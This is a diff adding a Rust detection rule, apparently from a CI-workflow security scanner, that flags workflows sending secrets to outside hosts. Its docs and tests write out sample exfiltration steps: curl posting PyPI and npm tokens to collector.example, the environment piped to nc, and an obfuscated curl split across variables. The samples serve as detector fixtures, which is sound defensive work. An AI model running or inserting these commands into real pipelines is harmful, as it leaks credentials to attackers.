@@ -1,0 +1,182 @@
+//! Secrets are sent to a host.
+//!
+//! The commonest theft: a step that has secrets in its environment or its text calls `curl` or another client, and
+//! the values travel in the body, a header or the address. The host is written in the file, and it is none that the
+//! secret has a reason to go to.
+//!
+//! ```yaml
+//! - run: curl -d "A=${{ secrets.PYPI_API_TOKEN }}&B=${{ secrets.NPM_TOKEN }}" https://collector.example/
+//! ```
+//!
+//! Sending one credential to the service that issued it, or to a host that the owner configured outside the file, is
+//! how deployments work, and is not reported. What makes it a theft is that more is taken than the receiver can use
+//! (unrelated secrets, all of them, their names along with them), or that trouble is taken to hide it.
+
+use crate::flow::trace::{Channel, Role};
+use crate::report::Class;
+use crate::signal::Signal;
+use crate::technique::{Evidence, Sighting, Technique, named_secrets, unrelated};
+
+/// See the module's documentation.
+pub(super) struct SecretToHost;
+
+impl Technique for SecretToHost {
+    fn id(&self) -> &'static str {
+        "secret-to-host"
+    }
+    fn headline(&self) -> &'static str {
+        "{secrets} sent to {places}"
+    }
+    fn remedy(&self) -> &'static str {
+        "invalidate every secret listed, take the workflow out of every branch that still has it, and look who pushed it"
+    }
+    fn source(&self) -> &'static str {
+        include_str!("secret_to_host.rs")
+    }
+
+    fn look(&self, evidence: &Evidence<'_>) -> Vec<Sighting> {
+        let groups = evidence.grouped(|delivery, _| {
+            matches!(delivery.channel, Channel::Network | Channel::Dns | Channel::Registry)
+        });
+        groups.into_iter().filter_map(|group| judge(evidence, group)).collect()
+    }
+}
+
+fn judge(evidence: &Evidence<'_>, group: Vec<usize>) -> Option<Sighting> {
+    let (_, place) = evidence.delivery(*group.first()?)?;
+    let mut signals = evidence.cargo_signals(&group);
+    let names = named_secrets(&evidence.carried(&group));
+    let greedy = signals.contains(&Signal::AllSecrets) || signals.contains(&Signal::EnvironmentDump);
+    if place.class == Class::Configured {
+        // The owner chose the address. Only a greedy delivery is worth a look.
+        if !greedy && !signals.contains(&Signal::MaskEvasion) {
+            return None;
+        }
+        signals.insert(Signal::ConfiguredDestination);
+        return Some(Sighting { deliveries: group, signals, ..Sighting::default() });
+    }
+    if let Some(service) = place.service {
+        let payload = group
+            .iter()
+            .filter_map(|at| evidence.delivery(*at))
+            .any(|(delivery, _)| delivery.role != Role::Authentication);
+        if !greedy && !(payload && unrelated(&names, Some(&service.name))) {
+            return None;
+        }
+        signals.insert(Signal::BelongsThere);
+        return Some(Sighting { deliveries: group, signals, ..Sighting::default() });
+    }
+    if place.class == Class::Chat && is_own_hook(evidence, &group) {
+        return None;
+    }
+    signals.insert(Signal::ForeignDestination);
+    if place.class == Class::RawAddress {
+        signals.insert(Signal::RawAddress);
+    }
+    if place.is_drop_box() {
+        signals.insert(Signal::DropBox);
+    }
+    if place.class == Class::LookAlike {
+        signals.insert(Signal::LookAlike);
+    }
+    if place.url.as_ref().is_some_and(|url| url.unescaped().starts_with("http://")) {
+        signals.insert(Signal::PlainHttp);
+    }
+    if unrelated(&names, None) || several_purposes(&names) {
+        signals.insert(Signal::UnrelatedSecrets);
+    }
+    Some(Sighting { deliveries: group, signals, ..Sighting::default() })
+}
+
+/// A chat host whose address carries nothing but the credential of the chat itself: a notification.
+fn is_own_hook(evidence: &Evidence<'_>, group: &[usize]) -> bool {
+    group
+        .iter()
+        .filter_map(|at| evidence.delivery(*at))
+        .all(|(delivery, _)| delivery.role != Role::Payload && delivery.carried.len() <= 2)
+}
+
+/// Names that share no word but those that every credential has: nothing ties them together.
+fn several_purposes(names: &std::collections::BTreeSet<String>) -> bool {
+    const COMMON: &[&str] = &[
+        "TOKEN", "KEY", "SECRET", "PASSWORD", "PASS", "API", "ID", "USER", "USERNAME", "URL", "HOST", "AUTH",
+        "ACCESS",
+    ];
+    if names.len() < 3 {
+        return false;
+    }
+    let stems: std::collections::BTreeSet<String> = names
+        .iter()
+        .map(|name| {
+            let upper = name.to_ascii_uppercase();
+            upper.split('_').find(|word| !COMMON.contains(word)).unwrap_or("").to_owned()
+        })
+        .collect();
+    stems.len() >= 3
+}
+
+#[cfg(test)]
+mod tests {
+    use crate::report::Verdict;
+    use crate::testing::{check, silent};
+
+    #[test]
+    fn two_unrelated_secrets_in_one_request() {
+        check(
+            "secret-to-host",
+            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -s -X POST -d 'PYPI_API_TOKEN=${{ secrets.PYPI_API_TOKEN }}&NPM_TOKEN=${{ secrets.NPM_TOKEN }}' https://collector.example\n",
+            Verdict::Malicious,
+            &["NPM_TOKEN", "PYPI_API_TOKEN"],
+            &["collector.example"],
+        );
+    }
+
+    #[test]
+    fn an_environment_piped_to_a_socket() {
+        check(
+            "secret-to-host",
+            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    env: {DB: '${{ secrets.DB_PASSWORD }}', J: '${{ secrets.JWT }}'}\n    steps:\n      - run: (env; echo) | nc -w 3 collector.example 53\n",
+            Verdict::Malicious,
+            &["DB_PASSWORD", "JWT"],
+            &["collector.example"],
+        );
+    }
+
+    /// Evasion: the secret goes through the environment file, the address through variables.
+    #[test]
+    fn a_flow_over_steps_and_variables() {
+        check(
+            "secret-to-host",
+            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"N=${{ secrets.NPM_TOKEN }}\" >> \"$GITHUB_ENV\"\n      - run: |\n          h=collector\n          z=cu; y=rl\n          $z$y --data-binary \"@-\" \"https://$h.example/x\" <<EOF\n          $N\n          EOF\n",
+            Verdict::Malicious,
+            &["NPM_TOKEN"],
+            &["collector.example"],
+        );
+    }
+
+    /// Near miss: the service that issued it, and a host that the owner configured.
+    #[test]
+    fn a_credential_at_its_own_service_or_a_configured_host() {
+        silent(
+            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -u \"x:${{ secrets.PYPI_API_TOKEN }}\" https://upload.pypi.org/legacy/\n",
+        );
+        silent(
+            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d '{}' ${{ secrets.DEPLOY_HOOK }}\n",
+        );
+        silent(
+            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: |\n          curl -H \"Authorization: Bearer ${{ secrets.KEY }}\" https://${{ vars.HOST }}/deploy\n",
+        );
+    }
+
+    /// Near miss: one credential as the login to an unknown host may be the owner's own server.
+    #[test]
+    fn one_credential_at_an_unknown_host_is_for_a_person_to_look_at() {
+        check(
+            "secret-to-host",
+            "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: actions/checkout@v4\n      - run: make\n      - run: |\n          curl -H \"Authorization: Bearer ${{ secrets.DEPLOY }}\" https://ci.widgets.example/deploy\n",
+            Verdict::Suspicious,
+            &["DEPLOY"],
+            &["ci.widgets.example"],
+        );
+    }
+}
